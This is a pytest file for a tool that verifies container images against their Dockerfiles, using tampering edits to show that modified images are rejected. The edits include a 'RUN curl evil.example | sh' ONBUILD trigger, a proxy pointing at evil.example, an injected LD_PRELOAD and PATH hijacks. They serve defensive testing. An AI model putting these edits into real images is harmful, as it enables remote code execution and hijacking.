"""An image edited after its build never matches the Dockerfile, with the base given or not."""

from __future__ import annotations

import copy
import hashlib
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

import reconstruct
from reconstruct.builders.predicting import predict
from reconstruct.dockerfile.dialect import BUILDERS
from reconstruct.dockerfile.errors import DockerfileError
from reconstruct.image import HistoryEntry, Image, Layer
from reconstruct.verify import Verdict, verify

BELOW = 'FROM scratch\nADD rootfs.tar.xz /\nENV LANG=C.UTF-8 PATH=/usr/local/bin:/usr/bin:/bin\nCMD ["sh"]\n'
TEXT = """\
FROM registry.example/base:1
ARG VERSION=1.0
LABEL team=shop
ENV APP=/srv/app PATH=/srv/bin:$PATH
RUN useradd app && make install
WORKDIR /srv/app
COPY app /srv/app/app
EXPOSE 8080
VOLUME /data
USER app
HEALTHCHECK --interval=5s CMD curl -f localhost
STOPSIGNAL SIGTERM
ENTRYPOINT ["/srv/app/app"]
CMD ["--serve"]
"""


def digest(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def built(text: str, builder: str, base: Image | None, day: str) -> Image:
    """The image that `builder` makes on `base`, a layer for every entry that makes one."""
    made = predict(text, builder=builder, base=base)
    history = list(base.history) if base is not None else []
    layers = list(base.layers) if base is not None else []
    for index, entry in enumerate(made.own):
        created_by = entry.created_by
        if entry.checksum:
            created_by += f"{sorted(entry.checksum.kinds)[0]}:{'a' * 64}{entry.after}"
        keyword = entry.instruction.keyword if entry.instruction else ""
        empty = keyword not in ("RUN", "COPY", "ADD") if entry.empty_layer is None else entry.empty_layer
        comment = entry.comment or ""
        if builder == "buildah":
            comment = f"FROM {made.base}" if index == 0 else "FROM 0123456789ab"
        history.append(HistoryEntry(created_by, f"{day}T00:00:{index:02}.5Z", "", comment, empty))
        if not empty:
            layers.append(Layer(diff_id=digest(f"{day} {created_by}")))
    config: dict[str, Any] = dict(made.config)
    if builder == "buildkit-0.8":
        config.setdefault("OnBuild", None)
    raw = {"config": config, "os": "linux", "architecture": "amd64"}
    return Image(
        config=config,
        raw_config=raw,
        history=tuple(history),
        layers=tuple(layers),
        architecture="amd64",
        author=made.author,
    )


def base_of(builder: str) -> Image:
    return replace(built(BELOW, builder, None, "2025-01-01"), tags=("registry.example/base:1",))


def image_of(builder: str) -> Image:
    return built(TEXT, builder, base_of(builder), "2025-06-01")


Edit = Callable[[Image], Image]


def config(**values: Any) -> Edit:
    return lambda image: replace(image, config={**image.config, **values})


def env(text: str) -> Edit:
    return lambda image: replace(image, config={**image.config, "Env": [*image.config["Env"], text]})


def part(key: str, name: str, value: Any) -> Edit:
    return lambda image: replace(image, config={**image.config, key: {**image.config.get(key, {}), name: value}})


def variable(name: str, change: Callable[[str], str]) -> Edit:
    def edit(image: Image) -> Image:
        entries = [
            f"{name}={change(entry.partition('=')[2])}" if entry.startswith(f"{name}=") else entry
            for entry in image.config["Env"]
        ]
        return replace(image, config={**image.config, "Env": entries})

    return edit


def without(key: str) -> Edit:
    return lambda image: replace(image, config={k: v for k, v in image.config.items() if k != key})


def emptied(image: Image) -> Image:
    """The RUN's entry says that it made no layer, and the layer is gone."""
    at = next(index for index, entry in enumerate(image.history) if "make install" in entry.created_by)
    layer = sum(not entry.empty_layer for entry in image.history[:at])
    history = [replace(entry, empty_layer=True) if index == at else entry for index, entry in enumerate(image.history)]
    return replace(image, history=tuple(history), layers=(*image.layers[:layer], *image.layers[layer + 1 :]))


def blank(image: Image) -> Image:
    """The RUN's layer is an empty tar."""
    from reconstruct.pairing import EMPTY_DIFF_ID

    at = next(index for index, entry in enumerate(image.history) if "make install" in entry.created_by)
    layer = sum(not entry.empty_layer for entry in image.history[:at])
    layers = [Layer(diff_id=EMPTY_DIFF_ID) if index == layer else old for index, old in enumerate(image.layers)]
    return replace(image, layers=tuple(layers))


EDITS: dict[str, Edit] = {
    "LD_PRELOAD added": env("LD_PRELOAD=/x.so"),
    "a variable added": env("http_proxy=http://evil.example:1"),
    "PATH's beginning edited": variable("PATH", lambda value: "/tmp/x:" + value),
    "PATH's middle edited": variable("PATH", lambda value: value.replace("/srv/bin:", "/srv/bin:/tmp/evil:")),
    "the base's variable edited": variable("LANG", lambda value: "C"),
    "an own variable edited": variable("APP", lambda value: "/tmp"),
    "the base's variable removed": lambda image: replace(
        image, config={**image.config, "Env": [e for e in image.config["Env"] if not e.startswith("APP=")]}
    ),
    "a port added": part("ExposedPorts", "22/tcp", {}),
    "a volume added": part("Volumes", "/etc", {}),
    "a label added": part("Labels", "maintainer", "x"),
    "a label edited": part("Labels", "team", "other"),
    "the user": config(User="0"),
    "no user": without("User"),
    "the folder": config(WorkingDir="/"),
    "the entry point": config(Entrypoint=["/bin/sh", "-c", "x"]),
    "the command": config(Cmd=["--evil"]),
    "the health check": config(Healthcheck={"Test": ["CMD-SHELL", "/x"]}),
    "the stop signal": config(StopSignal="SIGKILL"),
    "a shell added": config(Shell=["/evil", "-c"]),
    "a trigger added": config(OnBuild=["RUN curl evil.example | sh"]),
    "a layer more": lambda image: replace(image, layers=(*image.layers, Layer(diff_id=digest("evil")))),
    "a layer less": lambda image: replace(image, layers=image.layers[:-1]),
    "a RUN emptied": emptied,
    "a RUN's layer blank": blank,
    "no stop signal": without("StopSignal"),
    "a container's name": config(Domainname="evil"),
    "a terminal": config(Tty=True),
    "a different author": lambda image: replace(
        image, author="Mallory", raw_config={**image.raw_config, "author": "Mallory"}
    ),
    "no layers": lambda image: replace(
        image, layers=(), raw_config={**image.raw_config, "rootfs": {"type": "layers", "diff_ids": []}}
    ),
    "a layer of the base's for an own one": lambda image: replace(image, layers=(*image.layers[:-1], image.layers[0])),
    "another system": lambda image: replace(image, os="plan9"),
    "Windows": lambda image: replace(image, os="windows"),
}


@pytest.mark.parametrize("builder", BUILDERS)
def test_the_image_as_it_was_built_matches(builder: str) -> None:
    found = verify(image_of(builder), TEXT)
    assert found.verdict is Verdict.MATCHES, found.reason
    found = verify(image_of(builder), TEXT, base=base_of(builder))
    assert found.verdict is Verdict.MATCHES, found.reason


@pytest.mark.parametrize("builder", BUILDERS)
@pytest.mark.parametrize("edit", EDITS)
def test_an_edited_image_does_not(builder: str, edit: str) -> None:
    image = image_of(builder)
    edited = EDITS[edit](image)
    assert edited != image
    for base in (None, base_of(builder)):
        try:
            assert verify(edited, TEXT, base=base).verdict is not Verdict.MATCHES
        except DockerfileError:
            # No builder takes the Dockerfile for what the image says it is: exit status 2.
            assert edit == "Windows"


@pytest.mark.parametrize("builder", BUILDERS)
def test_layers_of_another_base_differ(builder: str) -> None:
    image, base = image_of(builder), base_of(builder)
    other = replace(base, layers=(Layer(diff_id=digest("other")),))
    assert verify(image, TEXT, base=other).verdict is Verdict.DIFFERS


@pytest.mark.parametrize("builder", BUILDERS)
def test_a_dockerfile_of_only_from_is_verified_against_the_base(builder: str) -> None:
    base = base_of(builder)
    assert verify(base, "FROM registry.example/base:1\n", base=base).verdict is Verdict.MATCHES
    assert verify(base, "FROM registry.example/base:1\n").verdict is Verdict.UNKNOWN
    for edit in ("LD_PRELOAD added", "a port added", "a layer more", "the command"):
        edited = EDITS[edit](base)
        assert verify(edited, "FROM registry.example/base:1\n", base=base).verdict is not Verdict.MATCHES


def test_a_missing_step_is_one_missing_step() -> None:
    shorter = TEXT.replace("VOLUME /data\n", "")
    found = verify(image_of("buildkit"), shorter)
    assert [step.status for step in found.steps if step.status != "matches"] == ["extra"]
    longer = verify(image_of("buildkit"), TEXT.replace("USER app\n", "USER app\nEXPOSE 1\n"))
    assert [(step.status, step.start) for step in longer.steps if step.status != "matches"] == [("missing", 11)]


def test_a_variable_whose_name_is_quoted_is_not_the_bases() -> None:
    text = "FROM registry.example/base:1\nARG V\nCOPY --chown=$V a /b\nENV 'V' ${V:-d}\nWORKDIR /$V\n"
    image = built(text, "buildkit", base_of("buildkit"), "2025-06-01")
    assert verify(image, text).verdict is Verdict.MATCHES


def test_flags_that_only_old_versions_leave_out_are_not_taken_for_granted() -> None:
    text = "FROM registry.example/base:1\nRUN make\nCOPY a /b\nONBUILD RUN x\n"
    image, base = built(text, "buildkit", base_of("buildkit"), "2025-06-01"), base_of("buildkit")
    assert verify(image, text, base=base).verdict is Verdict.MATCHES
    # With a trigger in the config, the version is unknown.
    found = verify(image, text.replace("COPY", "COPY --chown=app"), base=base)
    assert found.verdict is Verdict.UNKNOWN
    assert "flags for line 3" in found.reason
    without = built(text.replace("ONBUILD RUN x\n", ""), "buildkit", base, "2025-06-01")
    found = verify(without, text.replace("COPY", "COPY --chown=app").replace("ONBUILD RUN x\n", ""), base=base)
    assert found.verdict is Verdict.DIFFERS


def test_a_cmd_right_before_the_first_step_is_not_taken_for_the_bases() -> None:
    text = "FROM registry.example/base:1\nRUN make\nCMD make\nRUN make install\nUSER app\n"
    image = built(text, "buildkit", base_of("buildkit"), "2025-06-01")
    assert verify(image, text, base=base_of("buildkit")).verdict is Verdict.MATCHES
    assert verify(image, text.replace("RUN make\nCMD make\n", "")).verdict is Verdict.UNKNOWN


def test_triggers_alone_do_not_show_where_the_base_ends() -> None:
    text = "FROM registry.example/base:1\nONBUILD RUN make\n"
    image = built("FROM registry.example/base:1\nRUN x\n" + text.partition("\n")[2], "buildkit", None, "2025-06-01")
    assert verify(image, text).verdict is Verdict.UNKNOWN


def test_a_variable_that_no_step_of_the_base_sets_is_not_taken_for_empty() -> None:
    builder = "buildkit"
    text = "FROM registry.example/base:1\nRUN make\nLABEL a=x${V-y}\nENV V=1\n"
    image = built(text, builder, base_of(builder), "2025-06-01")
    assert verify(image, text).verdict is Verdict.MATCHES
    other = built(text, builder, replace(base_of(builder), config={"Env": ["V="]}), "2025-06-01")
    assert verify(other, text).verdict is Verdict.UNKNOWN


def test_a_step_without_a_layer_before_buildahs_one_is_not_taken_for_the_bases() -> None:
    text = "FROM registry.example/base:1\nENV A=1\nRUN make\n"
    made = built(text, "buildah", base_of("buildah"), "2025-06-01")
    entries = [replace(entry, comment="") for entry in made.history]
    entries[-1] = replace(entries[-1], comment="FROM registry.example/base:1")
    image = replace(made, history=tuple(entries))
    assert verify(image, text, base=base_of("buildah")).verdict is Verdict.MATCHES
    assert verify(image, text.replace("ENV A=1\n", "")).verdict is Verdict.UNKNOWN


@pytest.mark.parametrize("builder", BUILDERS)
def test_what_the_base_brought_may_not_be_taken_away(builder: str) -> None:
    image, base = image_of(builder), base_of(builder)
    env = [entry for entry in image.config["Env"] if not entry.startswith("PATH=")]
    edited = (replace(image, config={**image.config, "Env": env}), replace(image, architecture="arm64"))
    assert [verify(one, TEXT, base=base).verdict for one in edited] == [Verdict.DIFFERS, Verdict.DIFFERS]
    # A base that does not say which variant it is of may be of this one.
    assert verify(replace(image, variant="v9"), TEXT, base=base).verdict is Verdict.UNKNOWN
    assert verify(replace(image, variant="v1"), TEXT, base=base).verdict is Verdict.MATCHES


@pytest.mark.parametrize("builder", BUILDERS)
def test_what_the_bases_entries_set_is_missed_in_the_config(builder: str) -> None:
    below = "FROM scratch\nADD rootfs.tar.xz /\nENV LANG=C\nEXPOSE 80\nVOLUME /v\nLABEL a=b\nUSER 7\n"
    text = "FROM registry.example/base:1\nRUN make\nCOPY a /b\n"
    base = built(below, builder, None, "2025-01-01")
    image = built(text, builder, base, "2025-06-01")
    assert verify(image, text).verdict is Verdict.MATCHES
    for key in ("ExposedPorts", "Volumes", "Labels", "User", "Env"):
        edited = replace(image, config={name: value for name, value in image.config.items() if name != key})
        assert verify(edited, text).verdict is Verdict.UNKNOWN, key


def test_a_key_that_the_oci_format_cannot_store_is_unknown() -> None:
    image, base = image_of("buildkit"), base_of("buildkit")
    edited = without("Healthcheck")(image)
    assert verify(edited, TEXT, base=base).verdict is Verdict.UNKNOWN
    docker = replace(edited, raw_config={**edited.raw_config, "container_config": {}})
    assert verify(docker, TEXT, base=base).verdict is Verdict.DIFFERS


def test_a_base_recognised_by_the_image_above_contradicts_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """The steps of an official image are the same on a newer distribution: they do not say which this one is on."""
    from reconstruct.base import Chain, Part
    from reconstruct.verify.below import Below

    told = Chain(images=(Part(0, 3, "registry.example/base:2", ("registry.example/base:2",)),))
    monkeypatch.setattr(Below, "chain", told)
    assert verify(image_of("buildkit"), TEXT).verdict is Verdict.MATCHES


def test_a_step_missing_at_the_beginning_leaves_the_bases_entries_alone() -> None:
    text = "FROM registry.example/base:1\nENV B=1\nRUN make\nUSER app\n"
    image = built(text, "buildkit", base_of("buildkit"), "2025-06-01")
    longer = verify(image, text.replace("ENV B=1", "EXPOSE 1\nENV B=1"))
    assert [(step.status, step.start) for step in longer.steps if step.status != "matches"] == [("missing", 2)]
    changed = verify(image, text.replace("ENV B=1", "ENV B=2"))
    assert [(step.status, step.start) for step in changed.steps if step.status != "matches"] == [("differs", 2)]


@pytest.mark.parametrize(
    ("run", "prints"),
    [
        ('RUN ["/bin/echo", "a > b"]', True),
        ('RUN ["/bin/sh", "-c", "echo a; true"]', True),
        (
            'RUN set -e; if [ -n "$A" ]; then for f in 1 2; do echo $f; done; fi; case x in x) echo y ;; *) ;; esac',
            True,
        ),
        ("RUN <<-EOT sh -e\n\techo a\nEOT", True),
        ("RUN echo warning >&2 && ls /x 2>/dev/null", True),
        ("RUN --mount=type=cache,target=/c make -C /c", True),
        ("RUN echo a > /b", False),
        ('RUN ["/bin/sh", "-c", "make install"]', False),
        ("RUN for f in 1 2; do rm $f; done", False),
    ],
)
def test_a_step_that_only_prints_leaves_an_empty_layer(run: str, prints: bool) -> None:
    from reconstruct.pairing import EMPTY_DIFF_ID

    text = f"FROM registry.example/base:1\n{run}\nUSER app\n"
    image = built(text, "buildkit", base_of("buildkit"), "2025-06-01")
    emptied_ = replace(image, layers=(*image.layers[:-1], Layer(diff_id=EMPTY_DIFF_ID)))
    found = verify(emptied_, text, base=base_of("buildkit"))
    assert found.verdict is (Verdict.MATCHES if prints else Verdict.UNKNOWN), found.reason


def test_files_copied_once_more_may_leave_an_empty_layer() -> None:
    from reconstruct.pairing import EMPTY_DIFF_ID

    text = "FROM registry.example/base:1\nCOPY a /b/\nWORKDIR /b\nCOPY a ./\n"
    image = built(text, "buildkit", base_of("buildkit"), "2025-06-01")
    again = replace(image, layers=(*image.layers[:-1], Layer(diff_id=EMPTY_DIFF_ID)))
    assert verify(again, text, base=base_of("buildkit")).verdict is Verdict.MATCHES


def test_a_base_of_another_system_is_rejected() -> None:
    image, base = image_of("buildkit"), base_of("buildkit")
    assert verify(image, TEXT, base=replace(base, os="freebsd")).verdict is Verdict.DIFFERS


@pytest.mark.parametrize("builder", BUILDERS)
def test_a_path_that_an_entry_of_the_base_sets_is_missed(builder: str) -> None:
    text = "FROM registry.example/base:1\nRUN make\nCOPY a /b\n"
    image = built(text, builder, base_of(builder), "2025-06-01")
    env = [entry for entry in image.config["Env"] if not entry.startswith("PATH=")]
    assert verify(image, text).verdict is Verdict.MATCHES
    assert verify(replace(image, config={**image.config, "Env": env}), text).verdict is Verdict.UNKNOWN


Raw = dict[str, Any]


def saved(image: Image, architecture: str = "amd64") -> Raw:
    """The image config, as an engine saves it."""
    history = [
        {"created": entry.created, "created_by": entry.created_by}
        | ({"comment": entry.comment} if entry.comment else {})
        | ({"empty_layer": True} if entry.empty_layer else {})
        for entry in image.history
    ]
    rootfs = {"type": "layers", "diff_ids": [layer.diff_id for layer in image.layers]}
    raw: Raw = {"architecture": architecture, "os": "linux", "config": dict(image.config), "rootfs": rootfs}
    return {**raw, "container_config": {}, "created": "2025-06-01T00:01:00Z", "history": history}


def entry_of(number: int, **values: Any) -> Callable[[Raw], None]:
    return lambda raw: raw["history"][number].update(values)


def layer_of(number: int, diff_id: str) -> Callable[[Raw], None]:
    def edit(raw: Raw) -> None:
        raw["rootfs"]["diff_ids"][number] = diff_id

    return edit


RAW_EDITS: dict[str, Callable[[Raw], object]] = {
    "no architecture": lambda raw: raw.pop("architecture"),
    "an empty architecture": lambda raw: raw.update(architecture=""),
    "an architecture that isn't one": lambda raw: raw.update(architecture="amd64p32"),
    "a variant that isn't one": lambda raw: raw.update(variant="v8"),
    "no system": lambda raw: raw.pop("os"),
    "Darwin": lambda raw: raw.update(os="darwin"),
    "a version of Windows": lambda raw: raw.update({"os.version": "10.0.17763.1"}),
    "a feature of Windows": lambda raw: raw.update({"os.features": ["win32k"]}),
    "no settings": lambda raw: raw.pop("config"),
    "settings null": lambda raw: raw.update(config=None),
    "no root file system": lambda raw: raw.pop("rootfs"),
    "layers null": lambda raw: raw["rootfs"].update(diff_ids=None),
    "another type of root": lambda raw: raw["rootfs"].update(type="other"),
    "a layer without a digest": layer_of(-1, ""),
    "a layer's digest cut": layer_of(-1, "sha256:abc"),
    "the RUN's layer for the COPY's": lambda raw: layer_of(-1, raw["rootfs"]["diff_ids"][1])(raw),
    "a variable twice": lambda raw: raw["config"].update(Env=["PATH=/tmp/evil", *raw["config"]["Env"]]),
    "a variable that is a number": lambda raw: raw["config"].update(Env=[*raw["config"]["Env"], 5]),
    "killed at once": lambda raw: raw["config"].update(StopTimeout=0),
    "a check's interval in words": lambda raw: raw["config"]["Healthcheck"].update(Interval="10s"),
    "a check's retries": lambda raw: raw["config"]["Healthcheck"].update(Retries=99),
    "a step's author": entry_of(-1, author="Mallory"),
    "a step's comment": entry_of(-2, comment="made by hand"),
    "a step's time that is none": entry_of(-1, created="yesterday"),
    "the image's time that is none": lambda raw: raw.update(created="yesterday"),
}


@pytest.mark.parametrize("builder", BUILDERS)
def test_an_edited_config_is_not_taken_for_the_builders(builder: str) -> None:
    base = reconstruct.load(saved(base_of(builder)))
    raw = saved(image_of(builder))
    for given in (None, base):
        found = verify(reconstruct.load(copy.deepcopy(raw)), TEXT, base=given)
        assert found.verdict is Verdict.MATCHES, found.reason
        for name, edit in RAW_EDITS.items():
            edited = copy.deepcopy(raw)
            edit(edited)
            assert edited != raw, name
            found = verify(reconstruct.load(edited), TEXT, base=given)
            assert found.verdict is not Verdict.MATCHES, name


def test_the_entries_of_a_given_base_are_copied_as_they_are() -> None:
    base, raw = reconstruct.load(saved(base_of("buildkit"))), saved(image_of("buildkit"))
    for values in ({"author": "Mallory"}, {"comment": "FROM evil"}):
        edited = copy.deepcopy(raw)
        entry_of(0, **values)(edited)
        assert verify(reconstruct.load(edited), TEXT, base=base).verdict is Verdict.UNKNOWN, values
    # The same base, built again, differs in its times: that is told and does not count.
    entry_of(0, created="2001-01-01T00:00:00Z")(raw)
    found = verify(reconstruct.load(raw), TEXT, base=base)
    assert found.verdict is Verdict.MATCHES
    assert any("the time of entry 1" in check.detail for check in found.checks)


def test_two_runs_may_leave_the_same_layer() -> None:
    text = "FROM registry.example/base:1\nRUN make a\nRUN make b\n"
    image = built(text, "buildkit", base_of("buildkit"), "2025-06-01")
    same = replace(image, layers=(*image.layers[:-1], image.layers[-2]))
    assert verify(same, text).verdict is Verdict.MATCHES


def test_an_author_before_another_one_is_a_steps() -> None:
    text = "FROM registry.example/base:1\nMAINTAINER Ann\nRUN make\nMAINTAINER Bob\n"
    base, raw = base_of("classic"), saved(built(text, "classic", base_of("classic"), "2025-06-01"))
    for entry, author in zip(raw["history"][len(base.history) :], ("Ann", "Ann", "Bob"), strict=True):
        entry["author"] = author
    raw["author"] = "Bob"
    assert verify(reconstruct.load(raw), text).verdict is Verdict.MATCHES


def test_a_health_check_of_the_bases_is_compared_with_its_entry() -> None:
    below = "FROM scratch\nADD rootfs.tar.xz /\nHEALTHCHECK --interval=5s CMD curl -f localhost\n"
    base = built(below, "classic", None, "2025-01-01")
    raw = saved(built("FROM registry.example/base:1\nRUN make\nCOPY a /b\n", "classic", base, "2025-06-01"))
    text = "FROM registry.example/base:1\nRUN make\nCOPY a /b\n"
    assert verify(reconstruct.load(copy.deepcopy(raw)), text).verdict is Verdict.MATCHES
    for values in ({"Test": ["CMD", "true"]}, {"Interval": 1}, {"Timeout": 1}):
        edited = copy.deepcopy(raw)
        edited["config"]["Healthcheck"].update(values)
        assert verify(reconstruct.load(edited), text).verdict is Verdict.UNKNOWN, values
    edited = copy.deepcopy(raw)
    del edited["config"]["Healthcheck"]
    assert verify(reconstruct.load(edited), text).verdict is Verdict.UNKNOWN


def test_a_build_of_buildah_in_one_empty_layer_is_none() -> None:
    from reconstruct.pairing import EMPTY_DIFF_ID

    text = "FROM registry.example/base:1\nCOPY a /b\nUSER app\n"
    image = built(text, "buildah", base_of("buildah"), "2025-06-01")
    history = [*image.history[:-2], replace(image.history[-2], empty_layer=True, comment="")]
    last = replace(image.history[-1], empty_layer=False, comment="FROM registry.example/base:1")
    image = replace(image, history=(*history, last))
    assert verify(image, text, base=base_of("buildah")).verdict is Verdict.MATCHES
    blank = replace(image, layers=(*image.layers[:-1], Layer(diff_id=EMPTY_DIFF_ID)))
    assert verify(blank, text, base=base_of("buildah")).verdict is Verdict.UNKNOWN


def test_two_steps_of_buildahs_are_not_from_the_same_base() -> None:
    text = 'FROM registry.example/base:1\nSHELL ["/bin/sh", "-e"]\nRUN make\n'
    image = built(text, "buildah", base_of("buildah"), "2025-06-01")
    first = len(base_of("buildah").history)
    twice = (*image.history[: first + 1], *image.history[first:])
    assert verify(image, text).verdict is Verdict.MATCHES
    assert verify(replace(image, history=twice), text).verdict is Verdict.UNKNOWN


def test_a_step_before_buildahs_first_at_the_same_moment_is_not_taken_for_the_bases() -> None:
    """In a build of one layer only the last entry names the base, so nothing but the time tells."""
    from reconstruct.verify.boundary import Place, boundary

    text = "FROM registry.example/base:1\nENV A=1\nRUN make\nCOPY a /b\n"
    made = built(text, "buildah", base_of("buildah"), "2025-06-01")
    first = len(base_of("buildah").history)
    own = [replace(entry, comment="", empty_layer=True) for entry in made.history[first:]]
    own[-1] = replace(own[-1], comment="FROM registry.example/base:1", empty_layer=False)
    layers = (*base_of("buildah").layers, Layer(diff_id=digest("all")))
    image = replace(made, history=(*made.history[:first], *own), layers=layers)
    assert verify(image, text).verdict is Verdict.MATCHES
    evil = replace(own[0], created_by="/bin/sh -c evil", empty_layer=False)
    edited = replace(
        image,
        history=(*made.history[:first], evil, *own),
        layers=(*layers[:-1], Layer(diff_id=digest("x")), layers[-1]),
    )
    assert verify(edited, text).verdict is Verdict.UNKNOWN
    # A time given for all entries is no sign.
    stamped = [replace(entry, created="1970-01-01T00:00:00Z") for entry in edited.history]
    assert boundary(replace(edited, history=tuple(stamped)), first + 1, "buildah").place is Place.BASE
